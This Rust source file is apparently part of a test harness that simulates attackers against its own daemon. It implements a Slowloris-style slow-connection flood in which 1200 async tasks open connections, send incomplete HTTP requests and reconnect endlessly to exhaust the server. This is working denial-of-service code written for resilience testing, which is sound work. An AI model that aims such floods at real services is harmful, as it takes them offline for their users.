//! Connections that say little, and are opened again as soon as they end.

use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::attackers::Ground;

/// How many there are at a time.
const NUMBER: usize = 1200;

/// All come from this machine without a forwarded address, so none can be told from another.
pub(crate) fn slow(ground: &Arc<Ground>, tasks: &mut JoinSet<()>) {
    let host = &ground.field.daemon;
    let sayings = [
        String::new(),
        format!("GET / HTTP/1.1\r\nhost: {host}\r\nx-slow: "),
        format!("POST /token HTTP/1.1\r\nhost: {host}\r\ncontent-length: 9\r\n\r\ngrant"),
    ];
    for saying in sayings.iter().cycle().take(NUMBER) {
        let (ground, saying) = (Arc::clone(ground), saying.clone());
        tasks.spawn(async move {
            loop {
                let Ok(mut stream) = TcpStream::connect(&ground.field.daemon).await else {
                    continue;
                };
                let _ = stream.write_all(saying.as_bytes()).await;
                let mut answer = [0; 4096];
                while let Ok(1..) = stream.read(&mut answer).await {}
                ground.count("opened again".to_owned());
            }
        });
    }
}
